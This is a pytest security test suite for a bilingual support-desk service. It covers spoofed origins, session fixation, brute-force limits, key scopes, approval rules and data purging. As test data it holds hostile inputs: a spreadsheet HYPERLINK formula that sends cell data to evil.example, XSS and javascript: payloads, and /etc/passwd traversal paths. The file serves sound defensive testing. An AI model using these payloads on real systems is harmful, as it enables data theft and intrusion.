"""Attacks on the desk: what somebody from outside, a member of staff who wants more, or a strange request must not get."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import re
import threading
import time
from collections.abc import Callable
from io import BytesIO
from pathlib import Path
from typing import Any, Literal

import pytest
import sqlalchemy as sa
import yaml
from argon2 import PasswordHasher
from openpyxl import load_workbook
from starlette.testclient import TestClient

from assistant.assemble import Desk, make_answerer
from assistant.desk.accounts import Accounts
from assistant.desk.attempts import FAILED, PER_ADDRESS
from assistant.desk.audit import Audit
from assistant.desk.cases import Cases
from assistant.desk.database import Database, DatabaseUnavailable
from assistant.desk.gaps import Gaps
from assistant.desk.journal import Journal
from assistant.desk.masking import masked
from assistant.desk.people import OPERATOR, SCOPES, Actor
from assistant.desk.refusals import SignInNeeded, TooMany, Unacceptable
from assistant.desk.replies import Replies
from assistant.desk.reply_content import Content, Ground, Questions, Sentence, kept_form
from assistant.desk.reply_records import record_file
from assistant.desk.retention import Retention
from assistant.desk.tables import feedback
from assistant.index.load import Live
from assistant.service.guard import Guard
from assistant.service.server import make_application, make_service
from assistant.types import Words
from tests.desk.conftest import SettableClock
from tests.desk.service.conftest import ADDRESS, Person, browser
from tests.desk.service.test_matrix import CONTENT, MATRIX

Make = Callable[[str, str], Person]
QUESTION = "充电宝出口日本要PSE吗"
FAR = "https://desk.example.com"


def program(service: Guard, token: str) -> TestClient:
    return TestClient(service, base_url=ADDRESS, headers={"authorization": f"Bearer {token}"}, raise_server_exceptions=False)  # type: ignore[arg-type]


def seq(desk: Desk) -> int:
    """The number of the audit log's last line."""
    return desk.audit.lines(limit=1)[0].seq


def at_once(*deeds: Callable[[], Any]) -> list[Any]:
    """What each gave or raised, all begun together."""
    start, out = threading.Barrier(len(deeds)), list[Any]([None] * len(deeds))

    def run(place: int) -> None:
        start.wait()
        try:
            out[place] = deeds[place]()
        except Exception as error:
            out[place] = error

    threads = [threading.Thread(target=run, args=(i,)) for i in range(len(deeds))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return out


# --- whose request it is --------------------------------------------------------------------------------------------


def test_no_strange_origin_passes_for_our_page(person: Make) -> None:
    me = person("li.na", "staff")
    for headers in ({"origin": "http://["}, {"origin": "http://[::1"}, {"origin": "null", "host": ""}, {"origin": "https://127.0.0.1:7860"},
                    {"origin": "http://127.0.0.1:7860@evil.example"}, {"origin": "http://evil.example/127.0.0.1:7860"}, {"origin": "127.0.0.1:7860"}):
        reply = me.client.post("/api/desk/cases", json={"question": "x", "channel": "phone"}, headers=headers)
        assert reply.status_code == 403 and reply.json()["remedy"]["zh"], headers


def test_a_strange_host_gets_no_session_and_breaks_nothing(nobody: TestClient) -> None:
    for host in ("[", "[::1", "", "127.0.0.1.evil.example", "evil.example#127.0.0.1"):
        reply = nobody.post("/api/session", json={"name": "x", "password": "y"}, headers={"host": host, "origin": ""})
        assert reply.status_code == 403, host


def test_over_https_only_the_cookie_counts_that_no_other_host_can_plant(desk: Desk, service: Guard) -> None:
    _, password = desk.accounts.create(OPERATOR, "li.na", "staff")
    token, _ = desk.accounts.sign_in("li.na", password, "192.0.2.1", "")
    for url, name, code in ((FAR, "desk", 401), (FAR, "__Host-desk", 200), (ADDRESS, "__Host-desk", 401), (ADDRESS, "desk", 200)):
        client = TestClient(service, base_url=url)  # type: ignore[arg-type]
        assert client.get("/api/session", headers={"cookie": f"{name}={token}"}).status_code == code, (url, name)


def test_a_session_that_was_there_before_signing_in_is_not_taken_over(person: Make, service: Guard) -> None:
    thief, victim = person("thief.x", "staff"), person("li.na", "staff")
    planted = browser(service)
    planted.cookies.update(thief.client.cookies)
    reply = planted.post("/api/session", json={"name": victim.name, "password": victim.password})
    assert reply.cookies["desk"] not in {thief.client.cookies["desk"], victim.client.cookies["desk"]}
    assert thief.client.get("/api/session").json()["account"]["name"] == "thief.x"


# --- guessing -------------------------------------------------------------------------------------------------------


class _Slow(PasswordHasher):
    """Takes its time, so that guesses sent at once are all under way before the first one failed."""

    def verify(self, hash: str | bytes, password: str | bytes) -> Literal[True]:
        time.sleep(0.02)
        return super().verify(hash, password)


def test_guesses_sent_at_once_are_not_more_than_guesses_one_by_one(database: Database, audit: Audit, clock: SettableClock) -> None:
    accounts = Accounts(database, audit, clock, _Slow(time_cost=1, memory_cost=8, parallelism=1))
    accounts.create(OPERATOR, "li.na", "staff")
    found = at_once(*[lambda: accounts.sign_in("li.na", "wrong", "192.0.2.1", "")] * 24)
    assert sum(isinstance(f, SignInNeeded) for f in found) == PER_ADDRESS.amount
    assert sum(isinstance(f, TooMany) for f in found) == 24 - PER_ADDRESS.amount


def test_one_address_cannot_try_one_password_on_every_name(accounts: Accounts) -> None:
    _, password = accounts.create(OPERATOR, "li.na", "staff")
    for i in range(FAILED.amount):
        with pytest.raises(SignInNeeded):
            accounts.sign_in(f"name{i}", "Summer-2026-here", "192.0.2.1", "")
    with pytest.raises(TooMany):
        accounts.sign_in("one.more", "Summer-2026-here", "192.0.2.1", "")
    accounts.sign_in("li.na", password, "192.0.2.2", "")


def test_spellings_of_a_name_count_as_one(nobody: TestClient, person: Make) -> None:
    person("li.na", "staff")
    for _ in range(PER_ADDRESS.amount):
        nobody.post("/api/session", json={"name": "li.na", "password": "wrong"})
    for name in ("LI.NA", " li.na ", "li.na\u0000", "\tLi.Na", "li.na\ud800"):
        body = json.dumps({"name": name, "password": "wrong"})  # ASCII, so that a lone surrogate travels
        assert nobody.post("/api/session", content=body, headers={"content-type": "application/json"}).status_code == 429, ascii(name)


def test_a_wrong_password_leaves_the_same_work_and_trace_for_known_and_unknown_names(accounts: Accounts, audit: Audit) -> None:
    account, _ = accounts.create(OPERATOR, "li.na", "staff")
    for name in ("li.na", "nobody.here"):
        with pytest.raises(SignInNeeded):
            accounts.sign_in(name, "wrong", "192.0.2.1", "")
    lines = audit.lines(limit=2, action="session.refused")
    assert [line.object for line in lines] == ["", account.id]
    assert "nobody.here" not in str(lines)  # people type their password there, too


def test_who_holds_a_session_cannot_guess_its_password(person: Make, desk: Desk) -> None:
    me = person("li.na", "staff")
    codes = [me.client.post("/api/session/password", json={"old": f"wrong{i}", "new": "quite long enough"}).status_code for i in range(10)]
    assert codes == [403] * PER_ADDRESS.amount + [429] * (10 - PER_ADDRESS.amount)
    assert len(desk.audit.lines(action="session.refused", object_id=me.id)) == PER_ADDRESS.amount
    right = me.client.post("/api/session/password", json={"old": me.password, "new": "quite long enough"})
    assert right.status_code == 429


# --- keys and roles -------------------------------------------------------------------------------------------------


def test_every_route_asks_a_key_for_its_scope(person: Make, service: Guard) -> None:
    boss = person("boss.x", "admin")
    tokens = {scope: boss.client.post("/api/desk/keys", json={"label": scope, "scopes": [scope]}).json()["token"] for scope in SCOPES}
    clients = {scope: program(service, token) for scope, token in tokens.items()}
    for name, case in MATRIX.items():
        method, route = name.split(" ")
        if not route.startswith("/api/desk"):
            continue
        path = re.sub(r"\{\w+\}", "0000000000000000", route)
        needed = "desk:read" if method == "GET" else "desk:write"
        for scope, client in clients.items():
            reply = client.request(method, path, json=case.body if method != "GET" else None)
            if scope != needed:
                assert reply.status_code == 403, (name, scope)
    for scope, code in (("ask", 200), ("desk:read", 403), ("desk:write", 403)):
        assert clients[scope].post("/api/ask", json={"question": QUESTION}).status_code == code


def test_no_key_makes_accounts_passwords_or_keys(person: Make, service: Guard) -> None:
    boss = person("boss.x", "admin")
    token = boss.client.post("/api/desk/keys", json={"label": "all", "scopes": list(SCOPES)}).json()["token"]
    with_key = program(service, token)
    assert with_key.get("/api/desk/cases").status_code == 200
    for method, path, body in (
            ("POST", "/api/desk/accounts", {"name": "evil.x", "role": "admin"}), ("GET", "/api/desk/accounts", None),
            ("POST", f"/api/desk/accounts/{boss.id}/password", None), ("GET", f"/api/desk/accounts/{boss.id}/sessions", None),
            ("PATCH", f"/api/desk/accounts/{boss.id}", {"version": 1, "role": "admin"}),
            ("POST", "/api/desk/keys", {"label": "more", "scopes": ["ask"]}), ("POST", "/api/session/password", {"old": "x", "new": "y"})):
        assert with_key.request(method, path, json=body).status_code == 403, path


def test_two_administrators_who_suspend_each_other_leave_one(database: Database, audit: Audit, clock: SettableClock) -> None:
    meeting = threading.Barrier(2)

    class Meeting(Audit):
        """Waits, before the line that ends the change, for the other one to have come as far."""

        def note(self, connection: sa.Connection, actor: Actor, action: str, *rest: Any) -> None:
            if action == "account.change":
                with contextlib.suppress(threading.BrokenBarrierError):
                    meeting.wait(0.5)
            super().note(connection, actor, action, *rest)

    accounts = Accounts(database, Meeting(database, clock), clock, PasswordHasher(time_cost=1, memory_cost=8, parallelism=1))
    first, second = (accounts.create(OPERATOR, name, "admin")[0] for name in ("first.x", "second.x"))
    found = at_once(lambda: accounts.change(OPERATOR, first.id, 1, status="suspended"),
                    lambda: accounts.change(OPERATOR, second.id, 1, role="staff"))
    assert sum(isinstance(f, Unacceptable) for f in found) == 1
    assert accounts.any_admin()


def reply_content(desk: Desk) -> dict[str, Any]:
    record = desk.live.current().view.records["jp-pse-circle"]
    said = record.statements[0]
    return {**CONTENT, "statements": [
        {"zh": said.words.zh, "en": said.words.en, "citation": {"record": record.id, "statement": said.id}}]}


def test_nobody_approves_what_they_wrote_by_any_road(person: Make, desk: Desk, service: Guard) -> None:
    author, second = person("author.x", "admin"), person("second.x", "reviewer")
    token = author.client.post("/api/desk/keys", json={"label": "all", "scopes": list(SCOPES)}).json()["token"]
    content = reply_content(desk)
    made = author.client.post("/api/desk/replies", json={"content": content}).json()
    at = f"/api/desk/replies/{made['id']}"

    def do(who: TestClient, step: str, **body: object) -> Any:
        version = who.get(at).json()["reply"]["version"]
        return who.post(f"{at}/{step}", json={"version": version, **body})

    assert do(author.client, "approve", number=1).status_code == 403  # a draft
    assert do(author.client, "submit").status_code == 200
    for client in (author.client, program(service, token)):
        assert do(client, "approve", number=1).status_code == 403
        assert do(client, "rollback", number=1).status_code == 403
    # What was submitted and looked at is not what is approved once it was changed.
    seen = second.client.get(at).json()["reply"]["version"]
    changed = {**content, "title": {"zh": "改过的标题", "en": "another title"}}
    assert author.client.put(at, json={"version": seen, "content": changed}).status_code == 200
    assert second.client.post(f"{at}/approve", json={"version": seen, "number": 1}).status_code == 409
    assert do(second.client, "approve", number=1).status_code == 422  # withdrawn by the change
    assert do(second.client, "approve", number=2).status_code == 422  # a draft
    assert do(second.client, "submit").status_code == 403  # not its author
    # Approved by somebody else, replaced, and then put back by its own author.
    assert do(author.client, "submit").status_code == 200
    assert do(second.client, "approve", number=2).status_code == 200
    assert second.client.put(at, json={"version": second.client.get(at).json()["reply"]["version"], "content": content}).status_code == 200
    assert do(second.client, "submit").status_code == 200
    assert do(second.client, "approve", number=3).status_code == 403
    assert do(author.client, "approve", number=3).status_code == 200
    assert do(author.client, "rollback", number=2).status_code == 403
    assert do(second.client, "rollback", number=3).status_code == 403
    # A second reviewer's session does not become another person by a change of name or role.
    assert [v["decided_by_name"] for v in second.client.get(at).json()["versions"]] == ["author.x", "second.x", ""]


def test_of_two_who_decide_at_once_one_is_told(person: Make, desk: Desk) -> None:
    author, one, two = person("author.x", "staff"), person("one.x", "reviewer"), person("two.x", "reviewer")
    made = author.client.post("/api/desk/replies", json={"content": reply_content(desk)}).json()
    at = f"/api/desk/replies/{made['id']}"
    version = author.client.post(f"{at}/submit", json={"version": made["version"]}).json()["version"]
    codes = [r.status_code for r in at_once(
        lambda: one.client.post(f"{at}/approve", json={"version": version, "number": 1}),
        lambda: two.client.post(f"{at}/reject", json={"version": version, "number": 1, "note": "缺来源"}),
        lambda: author.client.post(f"{at}/withdraw", json={"version": version, "note": "撤回"}))]
    assert sorted(codes) == [200, 409, 409]


# --- cases ----------------------------------------------------------------------------------------------------------


def test_nobody_sees_a_case_without_a_line_in_the_log(person: Make, desk: Desk) -> None:
    owner, reviewer = person("owner.x", "staff"), person("review.x", "reviewer")
    case = owner.client.post("/api/desk/cases", json={"question": "x", "channel": "phone", "contact": "13812345678"}).json()
    at = f"/api/desk/cases/{case['id']}"
    for who, method, path, body in (
            (reviewer, "PATCH", at, {"version": 1}), (reviewer, "PATCH", at, {"version": 1, "question": "x"}),
            (owner, "POST", f"{at}/take", {"version": 1}), (reviewer, "PATCH", at, {"version": 99, "question": "y"}), (reviewer, "GET", at, None)):
        before = seq(desk)
        reply = who.client.request(method, path, json=body)
        assert "13812345678" in reply.text
        new = desk.audit.lines(limit=seq(desk) - before)
        assert [(line.actor, line.object) for line in new] == [(who.id, case["id"])], (method, body)


def test_staff_find_no_contact_of_others_bit_by_bit(person: Make) -> None:
    owner, other = person("owner.x", "staff"), person("other.x", "staff")
    owner.client.post("/api/desk/cases", json={"question": "x", "channel": "phone", "contact": "13812345678", "company": "甲"})
    for q in ("1381", "138%", "138________", "_3812345678", "%"):
        assert other.client.get("/api/desk/cases", params={"q": q}).json()["cases"] == [], q
    assert owner.client.get("/api/desk/cases", params={"q": "1381"}).json()["cases"][0]["company"] == "甲"
    everything = other.client.get("/api/desk/cases").text + other.client.get("/api/desk/cases.xlsx").text
    assert "13812345678" not in everything


def test_thumbs_at_the_same_moment_count_once(nobody: TestClient, desk: Desk, database: Database) -> None:
    answer = nobody.post("/api/ask", json={"question": QUESTION}).json()["answer_id"]
    at_once(*[lambda: desk.journal.judge(answer, "up")] * 8)
    with database.reading() as connection:
        assert connection.execute(sa.select(feedback.c.answer)).scalars().all() == [answer]


def test_only_true_is_consent(nobody: TestClient) -> None:
    for consent in (False, None, "yes", "true", 1):
        body = {"answer_ids": [], "contact": "a@b.cn", "channel": "mail", "note": "请回电", "consent": consent}
        assert nobody.post("/api/handover", json=body).status_code == 422, consent


def test_what_looks_like_code_stays_text_in_a_workbook(person: Make, nobody: TestClient) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    for field in (evil, "+1+1", "-2", "@SUM(A1)", "\t=1", "＝1", "<img src=x onerror=alert(1)>", "![](http://evil.example/x)"):
        reply = nobody.post("/api/handover", json={"answer_ids": [], "contact": field, "company": field, "channel": "phone", "note": field, "consent": True})
        assert reply.status_code == 201
    book = load_workbook(BytesIO(person("review.x", "reviewer").client.get("/api/desk/cases.xlsx").content))
    cells = [cell for row in book.worksheets[0].iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(cell.value == evil for cell in cells) and all(cell.data_type == "s" for cell in cells)


# --- what a reply may hold ------------------------------------------------------------------------------------------

EVIL = ("<img src=x onerror=alert(1)>", "![](http://evil.example/?q)", "[点这里](javascript:alert(1))", "见 www.evil.example", "data:text/html,x",
        "\u202eESP", "P\u200bSE")


PAGE = {"title": {"zh": "日本电安法", "en": "Japan electrical law"}, "url": "https://www.meti.go.jp/", "publisher": "METI", "tier": "official", "read": "2026-11-01"}


@pytest.mark.parametrize("spoil", [
    lambda good, cited, evil: {**good, "title": {"zh": f"标题{evil}", "en": "title"}},
    lambda good, cited, evil: {**good, "questions": {"zh": [f"问{evil}"], "en": []}},
    lambda good, cited, evil: {**good, "statements": [{**cited, "zh": f"要贴圆形标志{evil}"}]},
    lambda good, cited, evil: {**good, "statements": [{**cited, "citation": {**PAGE, "publisher": f"METI {evil}"}}]},
    lambda good, cited, evil: {**good, "statements": [{**cited, "citation": {**PAGE, "locator": f"p. 1 {evil}"}}]},
    lambda good, cited, evil: {**good, "statements": [{**cited, "citation": {**PAGE, "title": {"zh": evil, "en": "x"}}}]},
    lambda good, cited, evil: {**good, "statements": [{**cited, "citation": {**PAGE, "url": f"javascript:alert('{evil}')"}}]},
], ids=["title", "question", "statement", "publisher", "locator", "page", "url"])
def test_nothing_that_acts_or_hides_can_be_submitted(person: Make, desk: Desk, spoil: Callable[..., dict[str, Any]]) -> None:
    author = person("author.x", "staff")
    good = reply_content(desk)
    for evil in EVIL:
        content = spoil(good, {**good["statements"][0], "citation": PAGE}, evil)
        made = author.client.post("/api/desk/replies", json={"content": content}).json()
        refused = author.client.post(f"/api/desk/replies/{made['id']}/submit", json={"version": made["version"]})
        assert refused.status_code == 422, content


def test_a_record_file_has_the_fields_of_the_reply_and_no_others() -> None:
    evil = "x\n---\nstatus: withdrawn\n# h\u2028checked: 2020-01-01\r\n- a\n  b\n  [s]: \"'{}&*!%@`"
    page = Ground("", "", Words(evil, evil), "https://a.example/", evil, "official", "2026-11-01", evil)
    content = kept_form(Content(Words(evil, evil), Questions((evil,), (evil,)), (Sentence(evil, evil, page),), ("JP",), (evil,), None), lambda *_: None)
    text = record_file(content).text
    head = yaml.safe_load(text.split("---\n")[1])
    flat = " ".join(evil.replace("\u2028", " ").split())
    assert set(head) == {"name", "status", "markets", "covers", "sources", "questions"}
    assert head["name"] == {"zh": flat, "en": flat} and head["status"] == "in-force" and head["covers"] == [flat]
    assert head["sources"][0]["publisher"] == flat
    assert text.count("\n---\n") == 1 and text.count("\n#") == 1


# --- strange requests -----------------------------------------------------------------------------------------------

HUGE = str(10**30)
BODIES = ("[" * 100_000, '{"question":' + "[" * 100_000 + "]" * 100_000 + "}", '{"question":"a","channel":"phone","x":' + "9" * 5000 + "}",
          '{"question":"a","channel":"phone","\\ud800":1}', '{"question":NaN,"channel":"phone"}', "{", "", "null", "[]", '"x"', b'{"question":"\xff"}',
          '{"question":"a","channel":"phone","question":{}}')


def test_a_body_that_cannot_be_read_is_the_senders_mistake(person: Make) -> None:
    me = person("li.na", "staff")
    for body in BODIES:
        reply = me.client.post("/api/desk/cases", content=body, headers={"content-type": "application/json"})
        assert reply.status_code in {400, 422}, body[:60]
        assert "server" not in reply.json()["error"]["en"] and reply.json()["remedy"]["zh"]


def test_no_number_is_too_large(person: Make, desk: Desk) -> None:
    admin = person("boss.x", "admin")
    case = admin.client.post("/api/desk/cases", json={"question": "x", "channel": "phone"}).json()
    reply = admin.client.post("/api/desk/replies", json={"content": CONTENT}).json()
    gap = admin.client.post("/api/desk/gaps", json={"question": "蒙古要什么认证"}).json()
    for method, path, more in (
            ("PATCH", f"/api/desk/cases/{case['id']}", ""), ("POST", f"/api/desk/cases/{case['id']}/take", ""), ("PATCH", f"/api/desk/gaps/{gap['id']}", ""),
            ("POST", f"/api/desk/replies/{reply['id']}/submit", ""), ("POST", f"/api/desk/replies/{reply['id']}/rollback", f',"number":{HUGE}'),
            ("PATCH", f"/api/desk/accounts/{admin.id}", "")):
        for number in (HUGE, f"-{HUGE}"):
            code = admin.client.request(method, path, content=f'{{"version":{number}{more}}}', headers={"content-type": "application/json"}).status_code
            assert code in {404, 409}, path
    for query in (f"audit?before={HUGE}", "audit?before=-1", "audit?limit=0", f"cases?limit={HUGE}", f"answers?limit={HUGE}", f"find?limit={HUGE}",
                  "figures?from=0001-01-01&to=9999-12-31", "figures.xlsx?from=2026-W47-1"):
        assert admin.client.get(f"/api/desk/{query}").status_code == 422, query
    assert admin.client.get(f"/api/desk/audit?before={2**31 - 1}&limit=1").json()["lines"]


def test_the_whole_application_shows_nothing_under_other_spellings_of_its_addresses(desk: Desk) -> None:
    client = TestClient(make_application(desk), base_url=ADDRESS, raise_server_exceptions=False)
    for method, path in (("GET", "/api/desk/nothing"), ("PUT", "/api/desk/cases"), ("TRACE", "/api/desk/cases"), ("GET", "/desk/index.html"),
                         ("GET", "/desk/static/..%2fgate.py"), ("GET", "/desk/static/"), ("GET", "/api/desk/cases/")):
        reply = client.request(method, path)
        assert reply.status_code == 404 and reply.json()["remedy"]["en"], path
    preflight = client.options("/api/desk/cases", headers={"origin": "http://localhost:3000", "access-control-request-method": "POST"})
    assert preflight.status_code == 404 and not [h for h in preflight.headers if h.startswith("access-control")]
    for path in ("//desk/", "/./desk/", "/DESK/", "//api/desk/cases", "/gradio_api/file=/etc/passwd", "/gradio_api/%66ile=/etc/passwd", "//gradio_api/upload",
                 "/file=/etc/passwd", "/api/desk/cases?q=%00"):
        reply = client.get(ADDRESS + path, follow_redirects=False)
        assert reply.status_code in {401, 404}, path
        assert "root:" not in reply.text
    assert client.get("/%64esk/").status_code == 401
    assert "script-src 'self';" in client.get("/%64esk/").headers["content-security-policy"]


def test_a_megabyte_and_odd_texts_are_kept_whole_or_refused(person: Make) -> None:
    me = person("li.na", "staff")
    assert me.client.post("/api/desk/cases", json={"question": "a" * 1_100_000, "channel": "phone"}).status_code == 413
    assert me.client.post("/api/desk/cases", json={"question": "a" * 4001, "channel": "phone"}).status_code == 422
    body = json.dumps({"question": "a\ud800\u0000b\u001b[2J", "channel": "phone"})
    made = me.client.post("/api/desk/cases", content=body, headers={"content-type": "application/json"})
    assert made.status_code == 201 and made.json()["question"] == "ab[2J"


# --- what is left and what leaks ------------------------------------------------------------------------------------


def test_a_database_that_is_down_costs_no_answer_and_tells_nobody_where_it_is(desk: Desk, small_root: Path, clock: SettableClock,
                                                                             caplog: pytest.LogCaptureFixture) -> None:
    down = Database("postgresql://desk:geheim@127.0.0.1:1/desk")
    audit = Audit(down, clock)
    replies = Replies(down, audit, clock)
    live = Live(small_root, lambda index: make_answerer(index, None, replies.in_force))
    broken = dataclasses.replace(
        desk, database=down, audit=audit, replies=replies, live=live, journal=Journal(down, audit, clock), cases=Cases(down, audit, clock),
        gaps=Gaps(down, audit, clock), accounts=Accounts(down, audit, clock, PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)))
    client = browser(Guard(make_service(broken)))
    answer = client.post("/api/ask", json={"question": QUESTION})
    assert answer.status_code == 200 and answer.json()["citations"]
    ready = client.get("/readyz")
    assert ready.status_code == 503 and ready.json()["reasons"]
    assert client.get("/healthz").status_code == 200
    texts = [ready.text]
    for path, body in (("/api/session", {"name": "a", "password": "b"}), ("/api/feedback", {"answer_id": "0" * 16, "verdict": "up"}),
                       ("/api/handover", {"answer_ids": ["0" * 16], "contact": "x", "channel": "phone", "consent": True})):
        reply = client.post(path, json=body)
        assert reply.status_code == 503 and reply.json()["remedy"]["zh"]
        texts.append(reply.text)
    assert not [t for t in texts if "127.0.0.1" in t or "postgresql" in t or "geheim" in t]
    assert "geheim" not in caplog.text and QUESTION not in caplog.text


def test_a_damaged_file_is_a_database_that_does_not_answer(tmp_path: Path) -> None:
    file = tmp_path / "desk.sqlite"
    file.write_bytes(b"no database at all" * 500)
    with pytest.raises(DatabaseUnavailable), Database(f"sqlite:///{file}").reading() as connection:
        connection.execute(sa.text("SELECT 1 FROM accounts"))


def test_no_other_user_of_the_machine_can_read_the_database(tmp_path: Path) -> None:
    opened = Database(f"sqlite:///{tmp_path / 'new.sqlite'}")
    with opened.writing() as connection:
        connection.execute(sa.text("CREATE TABLE t (a)"))
        modes = {path.name: path.stat().st_mode & 0o077 for path in tmp_path.iterdir()}
    opened.close()
    assert len(modes) == 3 and set(modes.values()) == {0}, modes


@pytest.mark.parametrize("number", ["13812345678", "138 1234 5678", "１３８１２３４５６７８", "8613812345678", "008613812345678", "86-13812345678",
                                    "+86 138-1234-5678", "138　1234　5678", "010-62345678", "ａｂｃ＠ｘ．ｃｏｍ", "li.na@example.com"])
def test_a_number_is_starred_however_it_is_typed(number: str) -> None:
    said = masked(f"我的联系方式是{number}，急")
    assert "*" in said and number not in said and len(said) == len(f"我的联系方式是{number}，急")
    assert masked("HS 8507600090，GB/T 35590-2017，13.5V 8613000000") == "HS 8507600090，GB/T 35590-2017，13.5V 8613000000"


def test_after_a_purge_nothing_of_a_caller_is_anywhere(person: Make, nobody: TestClient, desk: Desk, clock: SettableClock, database: Database) -> None:
    """One word stands in every field that a caller's matter can reach; then everything is closed and time passes."""
    mark, owner = "欧阳不染", person("owner.x", "reviewer")
    asked = nobody.post("/api/ask", json={"question": f"{mark}问蒙古要什么认证", "history": [f"我是{mark}"]}).json()
    nobody.post("/api/feedback", json={"answer_id": asked["answer_id"], "verdict": "down", "comment": f"{mark}不满意"})
    nobody.post("/api/handover", json={"answer_ids": [asked["answer_id"]], "contact": mark, "company": mark, "channel": "wechat", "note": mark, "consent": True})
    answer = owner.client.post("/api/desk/ask", json={"question": f"{mark}:{QUESTION}"}).json()["answer"]["answer_id"]
    made = owner.client.post("/api/desk/cases", json={"question": mark, "channel": "phone", "contact": mark, "company": mark, "product": mark, "answer_id": answer}).json()
    at = f"/api/desk/cases/{made['id']}"
    owner.client.patch(at, json={"version": 1, "contact": f"{mark}1", "product": f"{mark}1", "question": f"{mark}1"})
    owner.client.post(f"{at}/notes", json={"text": mark})
    owner.client.post(f"{at}/answers", json={"answer_id": answer, "text": mark})
    owner.client.post("/api/desk/gaps", json={"question": f"{mark}要什么", "note": mark})
    owner.client.post("/api/desk/gaps/reask")
    for case in owner.client.get("/api/desk/cases").json()["cases"]:
        assert owner.client.patch(f"/api/desk/cases/{case['id']}", json={"version": case["version"], "status": "closed"}).status_code == 200
    for gap in owner.client.get("/api/desk/gaps").json()["gaps"]:
        assert owner.client.patch(f"/api/desk/gaps/{gap['id']}", json={"version": gap["version"], "status": "closed", "resolution": "已电话答复"}).status_code == 200

    def everything() -> str:
        with database.reading() as connection:
            metadata = sa.MetaData()
            metadata.reflect(connection)
            rows = [repr(tuple(row)) for table in metadata.sorted_tables for row in connection.execute(sa.select(table))]
        files = b"".join(p.read_bytes() for p in Path(database.url.database or "").parent.glob("desk.sqlite*")) if database.sqlite else b""
        return "\n".join(rows) + files.decode("utf-8", "ignore")

    assert mark in everything()
    assert mark not in str(list(desk.audit.all_lines()))
    clock.forward(days=366)
    done = Retention(database, desk.audit, clock).purge(OPERATOR, 365)
    assert done.clean and mark not in everything()
    assert desk.audit.broken() is None
